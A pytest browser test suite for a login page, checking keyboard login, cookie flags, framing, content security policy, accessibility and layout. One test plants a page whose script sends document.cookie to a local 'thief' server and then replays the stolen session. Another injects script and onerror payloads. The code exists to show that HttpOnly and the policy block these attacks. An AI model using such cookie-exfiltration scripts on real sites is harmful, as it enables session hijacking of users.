"""The login page in a real browser, and scripts that want the cookie (E34)."""

import http.server
import json
import os
import threading
import urllib.parse
from pathlib import Path

import pytest

import chromium
import logins
from gateway import PRELOAD
from logins import COOKIE, PASSWORD, Browser

REASON = chromium.missing()
if PRELOAD:
    REASON = "the same requests as the other tests of the page, which run under sanitizers"
pytestmark = pytest.mark.skipif(REASON is not None, reason=str(REASON))

MORE = """
    location /app/ { root {dir}/html; default_type text/html; }
    location = /frame { return 200 '<iframe src="/login"></iframe>'; default_type text/html; }
"""
SHOTS = os.environ.get("MACAW_SCREENSHOTS")  # a folder: keep the screenshots there


class Collector:
    """A thief's server: keeps what is sent to it."""

    def __enter__(self):
        collected = self.collected = []

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self):
                collected.append(urllib.parse.unquote(self.path.partition("?")[2]))
                self.send_response(204)
                self.send_header("Access-Control-Allow-Origin", "*")
                self.end_headers()

            def log_message(self, *_):
                pass

        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.server.server_address[1]}/"
        threading.Thread(target=self.server.serve_forever, daemon=True).start()
        return self

    def __exit__(self, *_):
        self.server.shutdown()
        self.server.server_close()


@pytest.fixture(scope="module")
def thief():
    with Collector() as collector:
        yield collector


@pytest.fixture(scope="module")
def site(module_gateway, thief):
    made = logins.site_of(module_gateway, "'title=Willow & Sons'", more=MORE,
                          http="macaw_session_zone name=kept:1m;"
                          "macaw_session_attempts user=1000 address=1000;", options="zone kept;")
    made.url = f"http://127.0.0.1:{made.port}"
    made.file("app/steal.html", f"""<!DOCTYPE html><title>shop</title><script>
        fetch("{thief.url}?" + encodeURIComponent(document.cookie))
            .then(() => fetch("/open/echo")).then(r => r.json())
            .then(seen => {{ document.title = JSON.stringify(seen.headers); }});
        </script>""")
    return made


@pytest.fixture(scope="module")
def chrome():
    driver = chromium.start()
    yield driver
    chromium.end(driver)


@pytest.fixture
def page(chrome, site):
    chrome.execute_cdp_cmd("Emulation.setScriptExecutionDisabled", {"value": False})
    chrome.execute_cdp_cmd("Emulation.setEmulatedMedia", {"features": []})
    chrome.get(site.url + "/login")
    chrome.delete_all_cookies()
    chrome.get(site.url + "/login")
    return chrome


def keys(driver, *texts):
    from selenium.webdriver.common.action_chains import ActionChains
    chain = ActionChains(driver)
    for text in texts:
        chain.send_keys(text)
    chain.perform()


def body(driver):
    return driver.find_element("tag name", "body").text


def wait_for(driver, text):
    wait_until(driver, lambda d: text in body(d) or text in d.title)


def wait_until(driver, condition):
    """The page may go while it is looked at."""
    from selenium.common.exceptions import WebDriverException
    from selenium.webdriver.support.wait import WebDriverWait
    WebDriverWait(driver, 20, 0.05, (WebDriverException,)).until(condition)


def focused(driver):
    return driver.switch_to.active_element.get_attribute("id")


def cookie(driver):
    return next((c for c in driver.get_cookies() if c["name"] == COOKIE), None)


@pytest.mark.parametrize("scripts", [True, False], ids=["with scripts", "without scripts"])
def test_login_and_logout_by_keyboard_only(page, site, scripts):
    from selenium.webdriver.common.keys import Keys
    page.execute_cdp_cmd("Emulation.setScriptExecutionDisabled", {"value": not scripts})
    page.get(site.url + "/login?return=%2Fopen%2Fecho%3Fx%3D1")
    assert focused(page) == "username"
    keys(page, "alice", Keys.TAB)
    assert focused(page) == "password"
    keys(page, "wrong", Keys.ENTER)
    wait_for(page, "User name or password is wrong.")
    wait_until(page, lambda driver: focused(driver) != "")
    assert focused(page) == "password", "the name is kept, the cursor where it is needed"
    assert page.find_element("id", "username").get_attribute("value") == "alice"
    assert page.find_element("id", "password").get_attribute("value") == ""
    keys(page, PASSWORD, Keys.TAB)
    assert page.switch_to.active_element.tag_name == "button"
    keys(page, Keys.SPACE)
    wait_for(page, "X-Macaw-User")
    assert page.current_url == site.url + "/open/echo?x=1"
    page.get(site.url + "/login")
    wait_for(page, "You are logged in as alice.")
    copy = Browser(site)
    copy.cookies[COOKIE] = cookie(page)["value"]
    assert copy.user() == "alice"
    keys(page, Keys.TAB)
    assert page.switch_to.active_element.text == "Log out"
    keys(page, Keys.ENTER)
    wait_for(page, "User name")
    assert cookie(page) is None
    assert copy.user() is None, "the copy ended with it"


def log_in(page):
    from selenium.webdriver.common.keys import Keys
    keys(page, "alice", Keys.TAB, PASSWORD, Keys.ENTER)
    wait_until(page, cookie)
    wait_for(page, "X-Macaw-User")


def test_the_browser_obeys_the_attributes_of_the_cookies(page, site):
    page.get(site.url + "/login?return=%2Fopen%2Fecho")
    log_in(page)
    kept = cookie(page)
    assert kept["httpOnly"] and kept["sameSite"] == "Lax" and kept["path"] == "/"
    assert page.execute_script("return document.cookie") == ""


def test_a_script_gets_the_cookie_only_without_httponly(page, site, thief):
    """E34. It can still act as the user while the page is open, which no attribute prevents."""
    page.get(site.url + "/login?return=%2Fopen%2Fecho")
    log_in(page)
    value = cookie(page)["value"]
    del thief.collected[:]
    page.get(site.url + "/app/steal.html")
    wait_for(page, "X-Macaw-User")
    assert thief.collected == [""], "HttpOnly"
    assert "alice" in [v for n, v in json.loads(page.title) if n == "X-Macaw-User"]
    page.delete_cookie(COOKIE)
    page.add_cookie({"name": COOKIE, "value": value, "httpOnly": False, "path": "/"})
    del thief.collected[:]
    page.get(site.url + "/app/steal.html")
    wait_for(page, "X-Macaw-User")
    assert thief.collected == [f"{COOKIE}={value}"]
    stolen = Browser(site)
    stolen.cookies[COOKIE] = thief.collected[0].partition("=")[2]
    assert stolen.user() == "alice"


def test_no_other_page_frames_the_login_page(page, site):
    page.get(site.url + "/frame")
    page.switch_to.frame(0)
    assert "User name" not in body(page)
    page.switch_to.default_content()


def test_no_script_runs_in_the_page(page, site):
    """Whatever somebody manages to write into it."""
    page.execute_script("""
        const script = document.createElement("script");
        script.textContent = "document.title = 'owned'";
        document.body.append(script);
        const image = document.createElement("img");
        image.setAttribute("onerror", "document.title = 'owned'");
        image.src = "/nothing.png";
        document.body.append(image);""")
    assert "owned" not in page.title


def test_the_page_logs_nothing_to_the_console(page):
    """A style whose hash did not fit the policy would."""
    page.get_log("browser")  # of other tests
    page.refresh()
    assert [entry for entry in page.get_log("browser") if "favicon" not in entry["message"]
            and "status of 40" not in entry["message"]] == []
    button = page.find_element("tag name", "button")
    assert button.value_of_css_property("display") == "block", "the style is applied"


def prefer(driver, scheme):
    driver.execute_cdp_cmd("Emulation.setEmulatedMedia", {
        "features": [{"name": "prefers-color-scheme", "value": scheme}]})


def states(page, site):
    """The page, the page after a mistake, and the page of somebody who is logged in."""
    from selenium.webdriver.common.keys import Keys
    yield "login"
    keys(page, "alice", Keys.TAB, "wrong", Keys.ENTER)
    wait_for(page, "wrong.")
    yield "wrong"
    keys(page, PASSWORD, Keys.ENTER)
    wait_until(page, cookie)
    page.get(site.url + "/login?return=%2Forders")
    wait_for(page, "logged in as")
    yield "logged-in"


@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_nothing_that_axe_finds(page, site, scheme):
    source = chromium.axe()
    prefer(page, scheme)
    for state in states(page, site):
        found = page.execute_script(source + "; return axe.run({runOnly: ['wcag2a', 'wcag2aa', "
                                    "'wcag21a', 'wcag21aa', 'wcag22aa', 'best-practice']});")
        assert found["violations"] == [], (state, [(v["id"], v["help"]) for v in found["violations"]])
        assert len(found["passes"]) > 10


@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_screenshots(page, site, scheme, tmp_path):
    prefer(page, scheme)
    folder = Path(SHOTS) if SHOTS else tmp_path
    for state in states(page, site):
        path = folder / f"login-{state}-{scheme}.png"
        assert page.save_screenshot(str(path))
        assert path.stat().st_size > 5000
    colour = page.find_element("tag name", "body").value_of_css_property("background-color")
    light = sum(int(part) for part in colour[colour.index("(") + 1:-1].split(",")[:3])
    assert (light > 600) == (scheme == "light"), colour


def test_a_narrow_window_needs_no_scrolling_sideways(page):
    page.execute_cdp_cmd("Emulation.setDeviceMetricsOverride", {
        "width": 320, "height": 600, "deviceScaleFactor": 2, "mobile": True})
    try:
        page.refresh()
        assert page.execute_script("return document.documentElement.scrollWidth") <= 320
    finally:
        page.execute_cdp_cmd("Emulation.clearDeviceMetricsOverride", {})
